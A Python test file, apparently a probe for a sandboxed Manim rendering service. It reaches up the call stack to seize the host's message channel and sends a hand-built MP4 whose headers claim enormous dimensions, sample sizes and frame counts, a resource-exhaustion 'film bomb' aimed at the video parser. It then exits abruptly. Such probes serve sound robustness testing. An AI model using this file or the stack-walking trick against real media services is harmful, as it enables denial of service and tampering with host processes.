"""Sends a film whose header promises a hundred thousand pixels by a hundred thousand, and more frames than there are.

title: a film that blows up is probed where it harms nobody
kind: verdicts
canary: the verdict
needs: film
verdicts: failed
control: no (nobody looks at films there)
"""
import os, struct, sys
from manim import *

HOST = {}

def box(kind, *content):
    data = b"".join(content)
    return struct.pack(">I4s", len(data) + 8, kind) + data

class Attack(Scene):
    def construct(self):
        frame = sys._getframe()
        while "channel" not in frame.f_locals:
            frame = frame.f_back
        channel = frame.f_locals["channel"]
        avcc = box(b"avcC", bytes([1, 100, 0, 40, 255, 225, 0, 4]) + b"\x67\x64\0\x28" + b"\1\0\4\x68\xee\x3c\x80")
        entry = box(b"avc1", bytes(6), b"\0\1", bytes(16), struct.pack(">HH", 65535, 65535), bytes(50), avcc)
        times = struct.pack(">III", 0, 0xFFFFFFFF, 1)
        table = box(b"stbl", box(b"stsd", struct.pack(">II", 0, 1), entry), box(b"stts", struct.pack(">II", 0, 1), times[4:]),
                    box(b"stsz", struct.pack(">III", 0, 1, 0xFFFFFFFF)), box(b"stco", struct.pack(">II", 0, 0x0FFFFFFF)),
                    box(b"stsc", struct.pack(">II", 0, 0x0FFFFFFF)))
        head = struct.pack(">IIIII", 0, 0, 0, 15360, 0xFFFFFFFF)
        media = box(b"mdia", box(b"mdhd", head, bytes(4)), box(b"hdlr", bytes(8), b"vide", bytes(13)),
                    box(b"minf", box(b"vmhd", bytes(12)), table))
        film = box(b"ftyp", b"isom\0\0\2\0isomavc1") + box(b"moov", box(b"mvhd", head, bytes(80)), box(b"trak", box(b"tkhd", bytes(84)), media))
        channel.message({"scenes": ["Attack"]})
        channel.file("clip0.mp4", film)
        channel.message({"scene": "Attack", "number": 0, "frames": 99_999, "title": "x", "lines": []})
        os._exit(0)
